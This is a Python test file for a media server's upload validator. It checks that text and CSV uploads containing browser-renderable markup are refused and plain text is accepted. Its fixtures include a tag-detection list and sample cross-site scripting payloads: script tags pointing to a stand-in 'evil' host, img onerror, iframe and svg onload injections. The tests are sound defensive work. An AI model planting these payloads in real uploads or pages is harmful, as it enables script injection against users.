"""A "text" upload (.txt, .csv) holding markup a browser would render is refused wherever the
markup stands in the sniff window: at the start behind a byte order mark, white space or a
comment, or after any amount of ordinary text. Text without markup stays accepted.

The upload is later served as text/plain with ``nosniff``; the refusal is for every reader
that ignores nosniff (old browsers, download managers, mail clients previewing a link).
"""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mediaserve.uploads.validate import SNIFF_BYTES, check_upload, markup_in, sniff

#: Openings of markup that runs script, loads content or makes a document, in the spellings
#: attackers use: any case, and each followed by what a browser accepts after a tag name.
ACTIVE = ["<script", "<iframe", "<svg", "<img", "<object", "<embed", "<html", "<body",
          "<meta", "<link", "<style", "<form", "<math", "<base", "<frameset", "<!DOCTYPE",
          "<?xml", "<xsl:stylesheet", "<template", "<video", "<audio"]  # fmt: skip
AFTER_TAG = [">", " ", "\t", "\n", "/", "\r\n"]
#: Ordinary text and CSV: letters, digits, punctuation, non-ASCII, and "<" only where no tag
#: name follows (comparisons, arrows, e-mail quoting).
PROSE = st.lists(
    st.sampled_from([*"abcdefghij ,;.:-_=+0123456789\n\t\"'()éçãü€", "<=", "< ", "<3"]),
    max_size=300,
).map("".join)


def _case(text: str, flips: list[bool]) -> str:
    padded = [*flips, *([False] * len(text))]
    return "".join(c.upper() if flip else c for c, flip in zip(text, padded, strict=False))


@st.composite
def markup(draw: st.DrawFn) -> bytes:
    tag = draw(st.sampled_from(ACTIVE))
    tag = _case(tag, draw(st.lists(st.booleans(), max_size=len(tag))))
    return (tag + draw(st.sampled_from(AFTER_TAG)) + "alert(1)").encode()


@st.composite
def lead_in(draw: st.DrawFn) -> bytes:
    """What may stand before the markup: a BOM, white space, an HTML comment, prose, a CSV
    header line; any mix, kept inside the window."""
    parts: list[bytes] = []
    if draw(st.booleans()):
        parts.append(b"\xef\xbb\xbf")
    parts.append(draw(st.sampled_from([b"", b" ", b"\r\n", b"\n\n\t "])))
    if draw(st.booleans()):
        parts.append(b"<!-- " + draw(PROSE).replace("-->", "").encode() + b" -->")
    parts.append(draw(PROSE).encode())
    if draw(st.booleans()):
        parts.append(b"name,price,description\n")
    return b"".join(parts)


@pytest.mark.parametrize("ext", ["txt", "csv"])
@given(before=lead_in(), tag=markup(), after=PROSE)
def test_markup_anywhere_in_the_window_is_refused(
    ext: str, before: bytes, tag: bytes, after: str
) -> None:
    head = before + tag + after.encode()
    _kind, problem = check_upload(f"notes.{ext}", head, len(head))
    assert problem is not None
    assert problem.code == "content"
    assert "HTML markup" in problem.message
    found = markup_in(head)
    assert found is not None
    assert found[0] <= len(before)


@given(text=PROSE)
def test_text_without_markup_is_accepted(text: str) -> None:
    head = text.encode() or b"x"
    assert sniff(head) == "text"
    assert check_upload("notes.csv", head, len(head))[1] is None


@given(text=PROSE, tag=markup())
def test_the_window_is_sniff_bytes(text: str, tag: bytes) -> None:
    """What is judged is the window UploadValidator reads (SNIFF_BYTES): markup inside its
    last bytes is found, markup starting right after it is not read at all."""
    unit = text.encode() or b"x"
    filler = (unit * (SNIFF_BYTES // len(unit) + 1))[: SNIFF_BYTES - len(tag)]
    inside = filler + tag
    assert markup_in(inside) == (len(filler), markup_in(tag)[1])  # type: ignore[index]
    assert markup_in(filler + b" " * len(tag) + tag) is None


# A corpus of real-looking files: each is accepted or refused as a person would expect.
REFUSED = [
    b"\xef\xbb\xbf<!DOCTYPE html><html><body>hi</body></html>",
    b"<!-- generated --><script>document.location='//evil'</script>",
    b"id,name\n1,<img src=x onerror=alert(1)>\n",
    b"Dear customer,\n\nsee below.\n\n<iframe src='https://evil.example/'></iframe>",
    b"  \n<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    b'<?xml version="1.0"?><?xml-stylesheet href="x.xsl"?><a/>',
    b"<html>",
    b"sku;desc\r\nA1;<SCRIPT SRC=//evil/x.js></SCRIPT>\r\n",
    b"<b>bold start</b> is how the WHATWG sniffer recognises HTML",
]
ACCEPTED = [
    b"id,name,price\n1,soap,2.50\n2,towel,10.00\n",
    "preço;descrição\r\nsabão;R$ 2,50\r\n".encode("cp1252"),
    b"if a<b and b<=c then a<c\n",
    b"I <3 this product. Arrows: <- -> <=> \n",
    b"> quoted e-mail line\n>> older quote\n",
    b"Use the <Ctrl> key, and <Enter> to confirm.\n",
    "\ufeffname,city\nJoão,São Paulo\n".encode(),
]


@pytest.mark.parametrize("data", REFUSED)
def test_corpus_markup_is_refused(data: bytes) -> None:
    assert check_upload("upload.csv", data, len(data))[1] is not None


@pytest.mark.parametrize("data", ACCEPTED)
def test_corpus_plain_text_is_accepted(data: bytes) -> None:
    assert check_upload("upload.csv", data, len(data))[1] is None
